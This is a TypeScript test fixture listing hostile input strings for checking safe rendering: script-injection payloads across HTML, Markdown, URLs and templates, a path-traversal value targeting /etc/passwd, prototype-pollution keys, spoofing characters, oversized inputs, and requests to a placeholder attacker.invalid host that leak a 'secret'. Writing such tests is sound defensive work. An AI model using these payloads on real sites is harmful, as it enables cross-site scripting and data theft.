/** `run()` in the texts below. */
const RUN = 'globalThis.hacked=true';

/**
 * Texts that run a script, send a request or break the layout where they are not treated as text: in HTML, attributes, URLs,
 * Markdown, CSS and JSON. None of the hosts exists.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `"><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}">link</a><form action="javascript:${RUN}"><button>x</button></form>`,
  `[link](javascript:${RUN}) <javascript:${RUN}> ![image](javascript:${RUN})`,
  `[link](data:text/html,<script>${RUN}</script>) ![image](data:image/svg+xml,<svg/onload=${RUN}>)`,
  '![pixel](https://attacker.invalid/pixel.png?secret) https://attacker.invalid/auto',
  `javascript:${RUN}`,
  `JaVaScRiPt&colon;${RUN}`,
  ` \u0001java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`).toString('base64')}`,
  '//attacker.invalid/pixel.png',
  'https://attacker.invalid/x.png',
  '/sessions/../../etc/passwd?db_id=x#',
  '<link rel=stylesheet href=//attacker.invalid/x.css><style>*{display:none}</style><meta http-equiv=refresh content=0;url=//attacker.invalid>',
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} #{${RUN}}`,
  `'";--></textarea></title></style></script><script>${RUN}</script>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  '</div></main></body></html><base href="//attacker.invalid/">',
  '__proto__',
  'constructor',
  '\u202egnp.exe\u202c \u2066\u2067 \u200f\u200b\ufeff',
  `${'W'.repeat(10_000)}`,
  `${'> '.repeat(2_000)}deep ${'*'.repeat(3_000)} ${'['.repeat(3_000)}`,
  `${'\n'.repeat(3_000)}end`,
  `| a | b |\n|---|---|\n${'| x | y |\n'.repeat(2_000)}`,
];
